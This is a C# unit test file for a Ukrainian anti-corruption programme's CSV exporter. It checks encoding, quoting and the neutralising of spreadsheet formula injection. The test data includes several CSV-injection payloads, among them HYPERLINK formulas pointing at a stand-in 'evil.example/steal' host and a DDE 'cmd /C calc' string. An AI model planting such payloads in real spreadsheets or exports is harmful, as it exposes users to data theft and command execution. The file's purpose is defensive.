using System.Text;
using AntiCor.Core.Contracts;
using AntiCor.Core.Documents.Export;

namespace AntiCor.Core.Tests.Documents.Export;

public sealed class CsvExportTests
{
    private static byte[] Csv(ProgrammeDocument d) => ProgrammeExport.ToBytes(d, ExportFormat.Csv);

    [Fact]
    public void Csv_starts_with_the_utf8_byte_order_mark_and_ends_lines_with_crlf()
    {
        var bytes = Csv(ExportPlans.Seed);
        Assert.Equal([0xEF, 0xBB, 0xBF], bytes.Take(3));
        var text = Encoding.UTF8.GetString(bytes, 3, bytes.Length - 3);
        Assert.StartsWith("Напрям №,Напрям,Захід №,Захід,Термін (як у документі),Вид терміну,З,По,Виконавці,Потребує перевірки\r\n", text);
        Assert.EndsWith("\r\n", text);
    }

    [Fact]
    public void Csv_parses_back_to_every_measure_of_the_seed()
    {
        var records = Parse(Csv(ExportPlans.Seed));
        var measures = ExportPlans.Seed.Programme.Directions.SelectMany(d => d.Measures.Select(m => (Direction: d, Measure: m))).ToList();
        Assert.Equal(measures.Count + 1, records.Count);
        Assert.All(records, r => Assert.Equal(10, r.Count));
        foreach (var ((direction, m), r) in measures.Zip(records.Skip(1)))
        {
            Assert.Equal([direction.Number.ToString(), direction.Title, m.Number, m.Text, m.Term.Text], r.Take(5));
            Assert.Equal(m.Term.From?.ToString("yyyy-MM-dd") ?? "", r[6]);
            Assert.Equal(m.Term.To?.ToString("yyyy-MM-dd") ?? "", r[7]);
        }

        Assert.Equal(["1", "1.1", "період", "2019-01-01", "2020-12-31"], new[] { records[1][0], records[1][2], records[1][5], records[1][6], records[1][7] });
    }

    [Fact]
    public void Quotes_commas_and_line_breaks_in_a_text_survive_the_csv()
    {
        var tricky = "Перший рядок, з комою;\r\nдругий — з \"лапками\"\nі третій\rкінець";
        var plan = ExportPlans.Village();
        var direction = plan.Programme.Directions[0];
        plan = plan with
        {
            Programme = plan.Programme with
            {
                Directions = [direction with { Title = "Назва, що має \"лапки\"", Measures = [direction.Measures[0] with { Text = tricky }] }],
            },
        };

        var records = Parse(Csv(plan));
        Assert.Equal(2, records.Count);
        Assert.Equal("Назва, що має \"лапки\"", records[1][1]);
        Assert.Equal(tricky, records[1][3]);
        Assert.Equal("Сектор з питань запобігання корупції", records[1][8]);
    }

    [Theory]
    [InlineData("просто", "просто")]
    [InlineData("a,b", "\"a,b\"")]
    [InlineData("мова \"так\"", "\"мова \"\"так\"\"\"")]
    [InlineData("a\nb", "\"a\nb\"")]
    [InlineData("a\rb", "\"a\rb\"")]
    [InlineData("", "")]
    public void A_field_is_quoted_only_when_it_must_be_and_its_quotes_are_doubled(string value, string written) =>
        Assert.Equal(written, ProgrammeCsvWriter.Field(value));

    [Theory]
    [InlineData("=1+2", "'=1+2")]
    [InlineData("+380501234567", "'+380501234567")]
    [InlineData("-2+3", "'-2+3")]
    [InlineData("@SUM(A1:A9)", "'@SUM(A1:A9)")]
    [InlineData("\tприхована формула", "'\tприхована формула")]
    [InlineData("\r=1", "\"'\r=1\"")]
    [InlineData("=HYPERLINK(\"http://evil.example\",\"клік\")", "\"'=HYPERLINK(\"\"http://evil.example\"\",\"\"клік\"\")\"")]
    [InlineData("a=b-c", "a=b-c")]
    [InlineData("'уже з апострофом", "'уже з апострофом")]
    public void A_field_that_a_spreadsheet_would_run_as_a_formula_gets_a_leading_apostrophe_and_stays_otherwise_exact(string value, string written) =>
        Assert.Equal(written, ProgrammeCsvWriter.Field(value));

    [Fact]
    public void A_measure_text_and_an_executor_that_start_like_formulas_are_neutralised_in_the_exported_csv()
    {
        const string text = "=HYPERLINK(\"http://evil.example/steal\",\"Відкрити звіт\")";
        const string executor = "@SUM(1+1)*cmd|' /C calc'!A0";

        var records = Parse(Csv(ExportPlans.OneMeasure(text, executor)));

        Assert.Equal("'" + text, records[1][3]);
        Assert.Equal("'" + executor, records[1][8]);
        Assert.All(records.SelectMany(r => r), field => Assert.DoesNotMatch("^[=+\\-@\t\r]", field));
    }

    /// <summary>A strict RFC 4180 reader: the BOM, then records ended by CRLF, quoted fields with doubled quotes.</summary>
    private static List<List<string>> Parse(byte[] bytes)
    {
        Assert.True(bytes.AsSpan().StartsWith(Encoding.UTF8.GetPreamble()), "BOM");
        var text = Encoding.UTF8.GetString(bytes, 3, bytes.Length - 3);
        var records = new List<List<string>>();
        var record = new List<string>();
        var field = new StringBuilder();
        var i = 0;
        while (i < text.Length)
        {
            if (field.Length == 0 && text[i] == '"')
            {
                i++;
                while (true)
                {
                    Assert.True(i < text.Length, "unterminated quoted field");
                    if (text[i] == '"')
                    {
                        if (i + 1 < text.Length && text[i + 1] == '"')
                        {
                            field.Append('"');
                            i += 2;
                            continue;
                        }

                        i++;
                        break;
                    }

                    field.Append(text[i++]);
                }

                Assert.True(i == text.Length || text[i] is ',' or '\r', $"text after a closing quote at {i}");
                continue;
            }

            switch (text[i])
            {
                case ',':
                    record.Add(field.ToString());
                    field.Clear();
                    i++;
                    break;
                case '\r':
                    Assert.True(i + 1 < text.Length && text[i + 1] == '\n', $"bare CR at {i}");
                    record.Add(field.ToString());
                    field.Clear();
                    records.Add(record);
                    record = [];
                    i += 2;
                    break;
                case '"' or '\n':
                    Assert.Fail($"unquoted {(text[i] == '"' ? "quote" : "LF")} at {i}");
                    break;
                default:
                    field.Append(text[i++]);
                    break;
            }
        }

        Assert.True(record.Count == 0 && field.Length == 0, "the last record ends with CRLF");
        return records;
    }
}
